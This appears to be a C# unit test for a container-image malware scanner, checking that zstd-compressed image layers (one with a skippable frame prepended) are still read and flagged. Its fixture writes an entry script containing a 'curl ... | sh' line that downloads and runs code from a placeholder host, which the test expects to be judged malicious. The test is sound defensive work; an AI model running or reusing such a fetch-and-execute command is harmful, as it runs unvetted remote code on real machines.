using Wellguard.Artifacts;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Artifacts;

/// <summary>Forms of zstd that engines read.</summary>
public sealed class ZstdLayerTests
{
    [Theory]
    [InlineData("-3", true)]
    [InlineData("--long=27", false)]
    public async Task A_layer_is_read_as_engines_read_it(string option, bool skippable)
    {
        var file = Path.GetTempFileName();
        var tar = new RawTar().File("entry.sh", "curl -s https://cdn.example.invalid/x | sh\n").ToArray();
        await File.WriteAllBytesAsync(file, tar, CancellationToken.None);
        Tool.Run("zstd", "-q", "-f", option, file, "-o", file + ".zst");
        byte[] packed = [.. skippable ? (byte[])[0x5F, 0x2A, 0x4D, 0x18, 2, 0, 0, 0, 7, 7] : [], .. await File.ReadAllBytesAsync(file + ".zst", CancellationToken.None)];
        File.Delete(file);
        File.Delete(file + ".zst");
        var layer = new Layer(0, Digests.Of(packed), Digests.Of(tar), "COPY . /") { Open = _ => ValueTask.FromResult<Stream>(new MemoryStream(packed)) };
        var image = new Image(new Artifact(ArtifactKind.Image, "x"), new ImageConfig { Os = "linux", Architecture = "amd64", Entrypoint = ["/bin/sh", "/entry.sh"] }, [layer]);
        var report = await Pipeline.ScanAsync(image, new ScanOptions(Policy.Default, new DateOnly(2026, 11, 24)), CancellationToken.None);
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
        Assert.Equal(Level.Malicious, report.Verdict.Level);
    }
}
